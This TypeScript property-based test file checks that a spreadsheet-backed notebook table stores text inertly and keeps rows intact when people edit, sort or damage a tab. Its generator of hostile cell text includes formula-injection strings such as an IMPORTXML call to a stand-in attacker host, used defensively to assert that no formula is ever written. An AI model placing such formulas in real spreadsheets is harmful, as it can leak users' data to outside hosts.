// Owns: the promises of a tab as a table, whatever a person does to the tab.
import fc from 'fast-check';
import { holdable } from '../../src/notebook/cell';
import type { Columns, Tab } from '../../src/notebook/tab';
import { NotebookError, type Row } from '../../src/notebook/table';
import { formulasIn, hands, makeTab, newBook, shown, withTable } from './spreadsheet';

const TAB = {
  key: 'test',
  name: 'Test',
  id: 'id',
  frozenColumns: 0,
  color: '#3b5b92',
  columns: {
    name: { header: 'Name', kind: 'text', width: 100 },
    met: { header: 'Last met', kind: 'day', width: 100 },
    words: { header: 'Words', kind: 'number', width: 100 },
    mine: { header: 'My marks', kind: 'text', width: 100, typed: true },
    ticked: { header: 'Ticked', kind: 'check', width: 100, typed: true },
    at: { header: 'When', kind: 'moment', width: 100 },
    state: { header: 'State', kind: 'choice', width: 100, choices: ['a', 'b'] },
    id: { header: 'Row id', kind: 'text', width: 100, hidden: true },
  },
} as const satisfies Tab<Columns>;
type TestRow = Row<typeof TAB.columns>;

const row = (id: string, over: Partial<TestRow> = {}): TestRow => ({
  name: `Name ${id}`,
  met: '2026-11-02',
  words: 7,
  mine: `mine ${id}`,
  ticked: true,
  at: { date: '2026-11-23', time: '10:30' },
  state: 'a',
  id,
  ...over,
});

function bookWith(rows: TestRow[]) {
  const book = newBook();
  makeTab(book, TAB);
  withTable(book, TAB, (table) => table.append(rows));
  return book;
}
const rowsOf = (book: ReturnType<typeof newBook>) => withTable(book, TAB, (table) => table.rows());

/** Text that Sheets would take for something else, and text of every kind of sign. */
const nasty = fc.oneof(
  fc.constantFrom(
    '=1+1',
    '=IMPORTXML("https://evil.example","//a")',
    '+1',
    '-1+1',
    '@SUM(A1)',
    "'quoted",
    "''twice",
    "'=1+1",
    '\t=1+1',
    ' =1+1',
    '007',
    '1/2',
    '3-4-2026',
    '10:30',
    '1e5',
    '50%',
    '$3',
    'TRUE',
    'false',
    '#REF!',
    '\r\nline\rbreaks\n',
    'NUL\u0000\u0007',
    '\ud83d alone \ude00',
    '😀 and \u202eRTL مرحبا',
    ' spaces ',
    '{1,2}',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ maxLength: 40 }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', "'", '\t', '"'), fc.string({ maxLength: 10 }))
    .map((parts) => parts.join('')),
);

describe('text in a table', () => {
  it('comes back as it can be held, and is never a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(nasty, nasty), { minLength: 1, maxLength: 8 }), (texts) => {
        const rows = texts.map(([name, mine], index) => row(`r${index}`, { name, mine }));
        const book = bookWith(rows);
        expect(rowsOf(book).map(({ name, mine }) => [name, mine])).toEqual(
          texts.map(([name, mine]) => [holdable(name), holdable(mine)]),
        );
        expect(formulasIn(book, 'Test')).toEqual([]);
        // The same again through an update and through a rebuilt view.
        withTable(book, TAB, (table) =>
          table.update(new Map(texts.map(([, mine], index) => [`r${index}`, { name: mine }]))),
        );
        expect(rowsOf(book).map(({ name }) => name)).toEqual(
          texts.map(([, mine]) => holdable(mine)),
        );
        withTable(book, TAB, (table) => table.replace(rows));
        expect(rowsOf(book).map(({ name }) => name)).toEqual(texts.map(([name]) => holdable(name)));
        expect(formulasIn(book, 'Test')).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });

  it('may be as long as a cell, and is refused with nothing written when it is longer', () => {
    const long = `'${'é'.repeat(49_998)}`;
    const book = bookWith([row('a', { name: long })]);
    expect(rowsOf(book)[0]?.name).toBe(long);
    expect(() =>
      withTable(book, TAB, (table) => table.append([row('b'), row('c', { name: `${long}é` })])),
    ).toThrow(/50000 characters long.*Nothing was saved/);
    expect(rowsOf(book)).toHaveLength(1);
  });

  it('in every locale leaves numbers, days and moments what they are', () => {
    for (const [locale, timeZone] of [
      ['de_DE', 'Europe/Berlin'],
      ['en_US', 'America/Los_Angeles'],
    ] as const) {
      const book = newBook({ locale, timeZone });
      makeTab(book, TAB);
      const rows = [
        row('a', { name: '1,5', words: -2.5 }),
        row('b', { words: null, met: '', at: null }),
      ];
      withTable(book, TAB, (table) => table.append(rows));
      expect(rowsOf(book)).toEqual(rows);
    }
  });

  it('reads what a person typed in the wrong kind as nothing, and as text where text belongs', () => {
    const book = bookWith([row('a')]);
    hands(book).type('Test', 'B2', 'last week');
    hands(book).type('Test', 'C2', 'many');
    hands(book).type('Test', 'F2', 'noon');
    hands(book).format('Test', 'A2', { numberFormat: 'General' });
    hands(book).type('Test', 'A2', '12');
    expect(rowsOf(book)[0]).toMatchObject({ met: '', words: null, at: null, name: '12' });
  });
});

const IDS = ['a', 'b', 'c', 'd', 'e'];

/** Things people do to a tab. */
const deed = fc.oneof(
  fc.record({
    kind: fc.constant('move' as const),
    from: fc.integer({ min: 1, max: 8 }),
    to: fc.integer({ min: 1, max: 9 }),
  }),
  fc.record({
    kind: fc.constant('rename' as const),
    column: fc.integer({ min: 1, max: 7 }),
    name: fc.constantFrom('Nombre', 'x', '=Name', 'Goal'),
  }),
  fc.record({ kind: fc.constant('insert' as const), before: fc.integer({ min: 1, max: 9 }) }),
  fc.record({ kind: fc.constant('insertRow' as const), before: fc.integer({ min: 2, max: 6 }) }),
  fc.record({
    kind: fc.constant('sort' as const),
    column: fc.integer({ min: 1, max: 8 }),
    up: fc.boolean(),
  }),
);

describe('rows', () => {
  it('survive columns moved, renamed and inserted, and rows sorted and inserted, in any order', () => {
    fc.assert(
      fc.property(fc.array(deed, { maxLength: 6 }), (deeds) => {
        const book = bookWith(IDS.map((id) => row(id)));
        const by = hands(book);
        const renamed = new Set<string>();
        for (const one of deeds) {
          const tab = book.tabNamed('Test');
          if (one.kind === 'move') by.move('Test', 'columns', one.from, 1, one.to);
          else if (one.kind === 'insert') by.insert('Test', 'columns', one.before);
          else if (one.kind === 'insertRow') by.insert('Test', 'rows', one.before);
          else if (one.kind === 'sort')
            by.sort(
              'Test',
              `A2:${String.fromCharCode(64 + (tab?.columns ?? 8))}40`,
              one.column,
              one.up,
            );
          else {
            const header = tab && book.display(tab, 1, one.column);
            // Two columns of one new name are the person's own affair; the first keeps its own.
            if (!header || header === 'Row id' || renamed.has(one.name)) continue;
            renamed.add(one.name);
            const letter = String.fromCharCode(64 + one.column);
            by.type('Test', `${letter}1`, `'${one.name}`);
          }
        }
        const width = book.tabNamed('Test')?.columns ?? 0;
        fc.pre(width <= 14);
        const read = rowsOf(book);
        expect(read.map(({ id }) => id).sort()).toEqual(IDS);
        for (const one of read) expect(one).toEqual(row(one.id));
        // Written through the same mess, and nothing else is touched.
        withTable(book, TAB, (table, { mended }) => {
          expect(
            table.update(
              new Map([
                ['c', { name: 'New', words: 99 }],
                ['z', { name: 'No' }],
              ]),
            ),
          ).toEqual(['z']);
          expect(mended).toEqual([]);
        });
        for (const one of rowsOf(book))
          expect(one).toEqual(one.id === 'c' ? row('c', { name: 'New', words: 99 }) : row(one.id));
        withTable(book, TAB, (table) => table.append([row('f')]));
        expect(rowsOf(book).find(({ id }) => id === 'f')).toEqual(row('f'));
      }),
      { numRuns: 60 },
    );
  });

  it('copied by hand count once', () => {
    const book = bookWith([row('a'), row('b')]);
    hands(book).insert('Test', 'rows', 4);
    hands(book).paste('Test', 'A4', [['Copy of a', '', '', '', '', '', '', 'a']]);
    expect(rowsOf(book).map(({ name }) => name)).toEqual(['Name a', 'Name b']);
  });
});

describe('an update', () => {
  it('changes no cell but its own, whatever stands beside it', () => {
    const kept = [
      ['=1+1', '12/24/2026', "''quoted"],
      ["'007", '5', 'TRUE'],
      ['=A2&"!"', 'noon', "'=x"],
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...kept), { minLength: 5, maxLength: 5 }),
        fc.uniqueArray(fc.constantFrom(...IDS), { minLength: 1, maxLength: 4 }),
        fc.boolean(),
        (typed, chosen, both) => {
          const book = bookWith(IDS.map((id) => row(id)));
          const by = hands(book);
          by.insert('Test', 'columns', 2);
          by.format('Test', 'A2:C9', { numberFormat: 'General' });
          for (const [index, cells] of typed.entries()) by.paste('Test', `A${index + 2}`, [cells]);
          const before = shown(book, 'Test');
          const formulas = formulasIn(book, 'Test');
          withTable(book, TAB, (table) =>
            table.update(
              new Map(
                chosen.map((id) => [
                  id,
                  both
                    ? { words: 41, state: 'b', mine: 'never' }
                    : { state: 'b', at: null, ticked: false },
                ]),
              ),
            ),
          );
          const after = shown(book, 'Test');
          before.forEach((cells, r) => {
            const mine = chosen.includes(IDS[r - 1] ?? '');
            const wanted = cells.map((cell, c) => {
              const header = before[0]?.[c];
              if (!mine) return cell;
              if (header === 'State') return 'b';
              if (both && header === 'Words') return '41';
              return !both && header === 'When' ? '' : cell;
            });
            expect(after[r]).toEqual(wanted);
          });
          expect(formulasIn(book, 'Test')).toEqual(formulas);
        },
      ),
      { numRuns: 40 },
    );
  });

  it('of what is so already writes nothing', () => {
    const book = bookWith(IDS.map((id) => row(id)));
    withTable(book, TAB, (table, { counts }) => {
      table.update(
        new Map(IDS.map((id) => [id, { name: `Name ${id}`, at: row(id).at, met: '2026-11-02' }])),
      );
      expect(counts.calls.filter((call) => call.endsWith('setValues'))).toEqual([]);
    });
  });

  it('of a whole class takes one read and one write a run of our columns', () => {
    const many = Array.from({ length: 180 }, (_, index) => String(index));
    const book = bookWith(many.map((id) => row(id)));
    withTable(book, TAB, (table, { counts }) => {
      table.update(
        new Map(many.map((id) => [id, { name: 'x', words: 3, met: '2026-11-09' as const }])),
      );
      expect(counts.rounds).toBe(2);
    });
  });
});

describe('a tab that a person damaged', () => {
  it('without its header row is named, and nothing in it is touched', () => {
    const book = bookWith(IDS.map((id) => row(id)));
    hands(book).delete('Test', 'rows', 1);
    const before = shown(book, 'Test');
    for (const work of [
      () => rowsOf(book),
      () => withTable(book, TAB, (table) => table.append([row('x')])),
      () => withTable(book, TAB, (table) => table.replace([row('x')])),
      () => withTable(book, TAB, (table) => table.find('id', ['a'])),
    ])
      expect(work).toThrow(NotebookError);
    expect(shown(book, 'Test')).toEqual(before);
  });

  it('without a header row is named also where a row happens to read like a header', () => {
    const book = bookWith([row('a', { name: 'State' })]);
    hands(book).delete('Test', 'rows', 1);
    expect(() => rowsOf(book)).toThrow(/no header row/);
  });

  it('without its ids is named, and mended while it is empty', () => {
    const book = bookWith([row('a')]);
    hands(book).delete('Test', 'columns', 8);
    expect(() => rowsOf(book)).toThrow(/Row id.*tap Repair/);
    hands(book).delete('Test', 'rows', 2);
    expect(withTable(book, TAB, (table, { mended }) => [table.rows(), mended.length])).toEqual([
      [],
      1,
    ]);
  });

  it('gets a column back that was deleted, beside and not over what a person wrote', () => {
    const book = bookWith([row('a')]);
    const by = hands(book);
    by.delete('Test', 'columns', 3);
    by.insert('Test', 'columns', 8);
    by.type('Test', 'H2', 'my own, without a header');
    withTable(book, TAB, (table, { mended }) => {
      table.update(new Map([['a', { words: 12 }]]));
      expect(mended).toEqual([
        'The column "Words" was missing from the tab "Test" and was added again at its end.',
      ]);
    });
    expect(shown(book, 'Test')[1]?.[7]).toBe('my own, without a header');
    expect(rowsOf(book)[0]).toEqual(row('a', { words: 12 }));
    // Renamed afterwards it is found again.
    by.type('Test', 'I1', 'Palabras');
    expect(rowsOf(book)[0]?.words).toBe(12);
  });

  it('with every visible header in another language still works', () => {
    const book = bookWith([row('a')]);
    for (const [index, name] of [
      'Nombre',
      'Vista',
      'Palabras',
      'Marcas',
      'Sí',
      'Cuándo',
      'Estado',
    ].entries())
      hands(book).type('Test', `${String.fromCharCode(65 + index)}1`, name);
    expect(rowsOf(book)).toEqual([row('a')]);
  });

  it('with a second column of one header keeps to its own', () => {
    const book = bookWith([row('a')]);
    const by = hands(book);
    by.insert('Test', 'columns', 1);
    by.type('Test', 'A1', 'Name');
    by.type('Test', 'A2', 'hers');
    withTable(book, TAB, (table) => table.update(new Map([['a', { name: 'ours' }]])));
    expect(shown(book, 'Test')[1]?.slice(0, 2)).toEqual(['hers', 'ours']);
  });
});

describe('a view built anew', () => {
  const typedIn = (book: ReturnType<typeof newBook>) => {
    const by = hands(book);
    by.insert('Test', 'columns', 2);
    by.type('Test', 'B1', 'Remark');
    by.type('Test', 'B2', 'about a');
    by.type('Test', 'B4', 'about c');
    return by;
  };

  it('keeps what a person wrote beside a row beside it, in whatever order the rows now are', () => {
    const book = bookWith(['a', 'b', 'c'].map((id) => row(id)));
    typedIn(book);
    withTable(book, TAB, (table) =>
      table.replace(['x', 'c', 'a'].map((id) => row(id, { name: 'New', mine: 'other' }))),
    );
    expect(
      shown(book, 'Test')
        .slice(1)
        .map((cells) => [cells[8], cells[1], cells[0], cells[4]]),
    ).toEqual([
      ['x', '', 'New', 'other'],
      ['c', 'about c', 'New', 'mine c'],
      ['a', 'about a', 'New', 'mine a'],
      // Of b only her own mark is kept, below.
      ['', '', 'Name b', 'mine b'],
    ]);
  });

  it('keeps a row that is gone if a person wrote beside it, and rows of their own, for good', () => {
    const book = bookWith(['a', 'b'].map((id) => row(id, { mine: '' })));
    const by = typedIn(book);
    by.clear('Test', 'B4');
    by.type('Test', 'A6', 'A line of hers');
    for (let time = 0; time < 3; time += 1)
      withTable(book, TAB, (table) => table.replace([row('b', { mine: '' })]));
    const lines = shown(book, 'Test')
      .slice(1)
      .map((cells) => [cells[0], cells[1], cells[8] ?? '']);
    expect(lines.filter((cells) => cells.some((cell) => cell !== ''))).toEqual([
      ['Name b', '', 'b'],
      ['Name a', 'about a', ''],
      ['A line of hers', '', ''],
    ]);
  });

  it('leaves a column of formulas where it is', () => {
    const book = bookWith(['a', 'b'].map((id) => row(id)));
    const by = hands(book);
    by.insert('Test', 'columns', 2);
    by.format('Test', 'B2:B9', { numberFormat: 'General' });
    by.type('Test', 'B2', '=A2&"!"');
    by.type('Test', 'B3', '=A3&"!"');
    withTable(book, TAB, (table) => table.replace([row('b'), row('a')]));
    expect(
      shown(book, 'Test')
        .slice(1)
        .map((cells) => cells.slice(0, 2)),
    ).toEqual([
      ['Name b', 'Name b!'],
      ['Name a', 'Name a!'],
    ]);
  });

  it('leaves nothing of rows that are gone', () => {
    const book = bookWith(IDS.map((id) => row(id, { mine: '', ticked: false })));
    withTable(book, TAB, (table) => table.replace([row('z')]));
    expect(rowsOf(book)).toEqual([row('z')]);
    withTable(book, TAB, (table) => table.replace([]));
    expect(rowsOf(book)).toEqual([]);
  });
});

describe('a log', () => {
  it('finds rows by their exact text, patterns and capitals included', () => {
    const book = bookWith([row('a.c'), row('abc'), row('A.C'), row('a.c', { state: 'b' })]);
    withTable(book, TAB, (table) => {
      expect(table.find('id', ['a.c']).map(({ row: at }) => at)).toEqual([2, 5]);
      expect(table.find('id', ['(', 'abc']).map(({ values }) => values.id)).toEqual(['abc']);
      expect(table.find('id', ['none'])).toEqual([]);
    });
  });

  it('changes rows where they were found, and answers those that moved since', () => {
    const book = bookWith(IDS.map((id) => row(id)));
    const found = withTable(book, TAB, (table) => table.find('id', ['b', 'c', 'e']));
    hands(book).sort('Test', 'A2:H6', 8, false);
    const moved = withTable(book, TAB, (table) =>
      table.change(
        found.map(({ row: at, values }) => ({ row: at, id: values.id, values: { state: 'b' } })),
      ),
    );
    // c stands in the middle before and after.
    expect(moved).toEqual(['b', 'e']);
    expect(
      rowsOf(book)
        .filter(({ state }) => state === 'b')
        .map(({ id }) => id),
    ).toEqual(['c']);
    hands(book).delete('Test', 'rows', 3, 998);
    expect(
      withTable(book, TAB, (table) => table.change([{ row: 900, id: 'a', values: {} }])),
    ).toEqual(['a']);
  });

  it('makes both of two changes of one row, and leaves what is no change as it reads', () => {
    const book = bookWith([row('a'), row('b')]);
    hands(book).type('Test', 'C3', 'a few');
    withTable(book, TAB, (table) =>
      table.change([
        { row: 2, id: 'a', values: { state: 'b', words: 1 } },
        { row: 2, id: 'a', values: { name: 'Twice' } },
        { row: 3, id: 'b', values: { state: 'b' } },
      ]),
    );
    expect(rowsOf(book)[0]).toEqual(row('a', { state: 'b', words: 1, name: 'Twice' }));
    expect(shown(book, 'Test')[2]?.[2]).toBe('a few');
  });

  it('reads and writes no more when it is ten thousand rows long', () => {
    const cost = (length: number) => {
      const book = bookWith(Array.from({ length }, (_, index) => row(`n${index}`)));
      // The room that a full sheet is given at once is not the long log's cost.
      withTable(book, TAB, (table) => table.append([row('last')]));
      return withTable(book, TAB, (table, { counts }) => {
        table.append([row('new', { state: 'b' }), row('new2', { state: 'b' })]);
        const found = table.find('state', ['b']);
        expect(found).toHaveLength(2);
        table.change(
          found.map(({ row: at, values }) => ({ row: at, id: values.id, values: { state: 'a' } })),
        );
        return { rounds: counts.rounds, cells: counts.cells };
      });
    };
    const long = cost(10_000);
    expect(long).toEqual(cost(10));
    expect(long.rounds).toBeLessThanOrEqual(8);
    expect(long.cells).toBeLessThan(100);
  });
});
